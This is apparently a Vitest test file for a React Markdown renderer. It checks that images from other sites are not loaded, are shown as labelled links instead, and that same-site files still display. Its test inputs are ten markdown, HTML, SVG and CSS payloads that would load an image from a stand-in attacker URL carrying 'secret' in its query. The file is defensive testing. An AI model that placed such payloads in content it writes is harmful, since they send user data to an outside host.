import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from '../src/markdown/Markdown';

const EVIL = 'http://evil.example/?q=secret';
const shown = (text: string, live = false) => renderToStaticMarkup(createElement(Markdown, { text, live }));

describe('a picture from elsewhere', () => {
  test.each([
    `![cat](${EVIL})`,
    `!![cat](${EVIL})`,
    `[![cat](${EVIL})](http://a.example)`,
    `![cat][r]\n\n[r]: ${EVIL}`,
    '![cat](//evil.example/x.png)',
    `<img src="${EVIL}">`,
    `<svg><image href="${EVIL}"></image></svg>`,
    `<p style="background: url(${EVIL})">x</p>`,
    `<style>@import url(${EVIL})</style>`,
    `<video poster="${EVIL}"></video>`,
  ])('is not loaded: %s', (text) => {
    for (const live of [true, false]) {
      expect(shown(text, live)).not.toMatch(
        /<(img|image|video|audio|iframe|object|embed|link|style)[\s>]|url\(http[^)]*\)"/i,
      );
    }
  });
  test('is a link that says where it leads', () => {
    expect(shown(`![cat](${EVIL})`)).toMatch(
      /<a href="http:\/\/evil\.example\/\?q=secret"[^>]*rel="noreferrer noopener"/,
    );
    expect(shown(`![cat](${EVIL})`)).toContain('evil.example');
  });
  test('is shown when it is a file of this site', () => {
    expect(shown('![cat](/api/files/01a1e6c6-9ccc-7c6f-9edf-643fb5608087/content)')).toContain('<img');
  });
});
